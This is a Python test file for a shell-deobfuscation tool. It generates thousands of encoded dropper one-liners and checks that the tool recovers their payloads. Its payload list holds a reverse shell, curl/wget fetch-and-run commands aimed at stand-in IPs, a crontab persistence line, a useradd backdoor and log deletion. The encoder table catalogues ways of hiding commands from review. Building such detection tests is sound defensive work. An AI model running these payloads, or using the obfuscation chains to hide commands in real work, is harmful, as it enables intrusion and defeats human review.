# SPDX-License-Identifier: GPL-3.0-or-later
"""What a pipeline of text commands would give to a shell comes out as a layer.

Each case is a made-up dropper: a payload, encoded and reshaped by some steps
that commands undo, its text carried to the first of these in one of many ways
a shell has. A sample of them is run by the real sh (printing the payload, with
cat in the shell's place), so that the set itself is known to be right.
"""

import base64
import codecs
import gzip
import json
import random
import re
import shutil
import subprocess

from suite import AUHUNT, environment

N_CASES = 3000
N_REAL = 150
SEED = 20260101

PAYLOADS = (
    "id", "ls", "whoami; id", "uname -a; id; pwd", "curl -s 192.0.2.7/a | sh",
    "echo 'a b' > /tmp/x; cat /tmp/x", "wget -qO- http://198.51.100.4/i.sh",
    "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "chmod +x /tmp/.k && /tmp/.k",
    "for i in 1 2 3; do echo $i; done", "cat /etc/passwd | head -n 3",
    "(crontab -l; echo '* * * * * /tmp/u') | crontab -", "rm -rf /var/log/x",
    "useradd -m -s /bin/bash sysd", "echo \"nice\" > /tmp/u",
)


def steps():
    """Encoder and the commands that undo it, for bytes without newlines;
    True where any bytes will do."""
    def base32(data):
        return base64.b32encode(data)

    def packed(data):
        return base64.b64encode(gzip.compress(data, mtime=0))

    def rot(data):
        return codecs.encode(data.decode(), "rot13").encode()

    def junk(data):
        return b"!".join(data[i:i + 3] for i in range(0, len(data), 3))

    def swap(data):
        return data.translate(bytes.maketrans(b"aeA", b"@#%"))

    def back(data):
        return data.decode()[::-1].encode()

    return (
        ("base64", True, base64.b64encode, [
            "base64 -d", "base64 --decode", "base64 -di", "base64 -d -i",
            "openssl base64 -d -A", "openssl enc -d -base64 -A"]),
        ("base64url", True, base64.urlsafe_b64encode,
         ["basenc --base64url -d"]),
        ("base32", True, base32, ["base32 -d", "basenc --base32 -d"]),
        ("hex", True, lambda data: data.hex().encode(), [
            "xxd -r -p", "xxd -p -r", "xxd -ps -r",
            "perl -pe 's/([0-9a-f]{2})/chr hex $1/gie'"]),
        ("gzip", True, packed, ["base64 -d | gunzip", "base64 -d | gzip -d",
                                "base64 -d | zcat", "base64 -d | gzip -dc"]),
        ("rev", False, back, ["rev", "perl -lpe '$_=reverse'"]),
        ("junk", False, junk, ["tr -d '!'", "tr -d \\!", "sed 's/!//g'",
                               "sed -e 's/[!]//g'"]),
        ("swap", False, swap, ["tr '@#%' aeA", "sed 'y/@#%/aeA/'",
                               "sed 's/@/a/g;s/#/e/g;s/%/A/g'",
                               "sed -e s/@/a/g -e s/#/e/g -e s/%/A/g"]),
        ("rot13", False, rot, ["tr A-Za-z N-ZA-Mn-za-m",
                               "tr 'a-zA-Z' 'n-za-mN-ZA-M'"]),
        ("tail", False, lambda data: b"XY" + data, ["cut -c3-", "cut -c 3-",
                                                    "sed 's/^..//'",
                                                    "tail -c +3"]),
    )


def quoted(text):
    return "'" + text.replace("'", "'\\''") + "'"


def pieces(text, rng, most=5):
    n = min(len(text), rng.randint(2, most))
    cuts = sorted(rng.sample(range(1, len(text)), n - 1)) if n > 1 else []
    return [text[i:j] for i, j in zip([0] + cuts, cuts + [len(text)])]


def carried(text, rng):
    """A shell text whose output, but for a newline at its end, is text; and
    one that is put before it."""
    plain = text.replace("%", "").replace("\\", "") == text
    name = "".join(rng.choice("abcdefgh") for _ in range(2))
    way = rng.randrange(10)
    if way == 0:
        return "", "echo %s" % quoted(text)
    if way == 1 and plain:
        return "", "printf %s" % quoted(text)
    if way == 2:
        return "", "printf '%%s' %s" % quoted(text)
    if way == 3 and len(text) > 1:
        return "", "echo %s" % "".join(
            rng.choice([quoted, lambda t: '"%s"' % t if not set(t) & set(
                '"$`\\!') else quoted(t)])(p) for p in pieces(text, rng))
    if way == 4 and len(text) > 2:
        parts = pieces(text, rng, 4)
        names = [name + str(i) for i in range(len(parts))]
        return "; ".join("%s=%s" % (n, quoted(p)) for n, p in zip(
            names, parts)) + "; ", 'echo "%s"' % "".join(
                "${%s}" % n for n in names)
    if way == 5:
        return "%s=%s; " % (name, quoted(text)), 'echo "$%s"' % name
    if way == 6 and len(text) > 1:
        return "", "(%s)" % "; ".join(
            "printf %%s %s" % quoted(p) for p in pieces(text, rng))
    if way == 7:
        return "", "cat <<'E'\n%s\nE\n" % text
    if way == 8 and len(text) > 1:
        first, *more = pieces(text, rng, 3)
        return "%s=%s; " % (name, quoted(first)) + "".join(
            "%s=$%s%s; " % (name, name, quoted(p)) for p in more), \
            'printf %%s "$%s"' % name
    return "", "echo -n %s" % quoted(text)


def chain(payload, rng):
    """The payload encoded by some steps, and what undoes them, in order."""
    rows = steps()
    data, undo = payload.encode(), []
    for _ in range(rng.randint(1, 4)):
        name, takes_all, encode, decoders = rng.choice(rows)
        if name in ("junk", "swap") and set(data) & set(b"!@#%"):
            continue
        if not takes_all and len(data) < 4:
            continue
        data = encode(data)
        undo.insert(0, rng.choice(decoders))
    return data.decode(), undo


def is_legible(payload, text):
    """Most of its words stand there: nothing is hidden."""
    words = [word for word in re.findall(r"[A-Za-z0-9]+", payload)
             if len(word) > 2]
    return 2 * sum(word in text for word in words) > len(words)


def cases_made(n):
    rng = random.Random(SEED)
    for _ in range(n):
        payload = rng.choice(PAYLOADS)
        text, undo = chain(payload, rng)
        if not undo or is_legible(payload, text):
            continue
        before, source = carried(text, rng)
        pipe = " | ".join(undo)
        body = ""
        if source.endswith("\n"):
            source, _, body = source.partition("\n")
            body = "\n" + body
        elif rng.random() < 0.2 and source.startswith("echo '") and not before:
            first, *rest = pipe.split(" | ", 1)
            pipe = " | ".join(["%s <<< %s" % (first, source[5:])] + rest)
            source = ""
        whole = before + (source + " | " if source else "") + pipe
        way = rng.randrange(6)
        if way == 0 and not body:
            yield payload, 'eval "$(%s)"' % whole, 'echo "$(%s)"' % whole
        elif way == 1 and not body:
            yield payload, 'x=$(%s); bash -c "$x"' % whole, \
                'x=$(%s); echo "$x"' % whole
        else:
            shell = rng.choice(["sh", "bash", "sudo bash", "bash -s",
                                "/bin/sh", "nohup sh"])
            yield payload, "%s | %s%s" % (whole, shell, body), \
                "%s | cat%s" % (whole, body)


def layers(made):
    stdin = "".join(json.dumps(["bash", "-c", line]) + "\n"
                    for _, line, _ in made)
    done = subprocess.run([AUHUNT, "decode"], input=stdin.encode(),
                          capture_output=True, env=environment(), check=False)
    return [json.loads(line) for line in done.stdout.splitlines()]


def is_payload(text, payload):
    return text.rstrip("\n") == payload


def found():
    made = list(cases_made(N_CASES))
    answers = layers(made)
    if len(answers) != len(made):
        yield "%d answers to %d texts" % (len(answers), len(made))
        return
    if len(made) < N_CASES * 3 // 4:
        yield "only %d texts made" % len(made)
    for (payload, line, _), answer in zip(made, answers):
        texts = [layer["text"] for layer in answer["layers"]]
        if not any(is_payload(text, payload) for text in texts):
            yield "%r gave %r" % (line, texts)


def real():
    """The set is right: sh makes of it what it says."""
    tools = ("bash", "base64", "base32", "basenc", "xxd", "openssl", "perl",
             "rev", "gunzip")
    missing = [tool for tool in tools if not shutil.which(tool)]
    rng = random.Random(SEED + 1)
    made = [case for case in cases_made(N_CASES)
            if not any(tool in case[2] for tool in missing)]
    for payload, _, line in rng.sample(made, min(N_REAL, len(made))):
        done = subprocess.run(["bash", "-c", line], capture_output=True,
                              check=False)
        text = done.stdout.decode("utf-8", "replace")
        if not is_payload(text, payload):
            yield "%r gave %r, %r" % (line, text, done.stderr[-200:])


def cases():
    yield "found", found
    yield "real", real
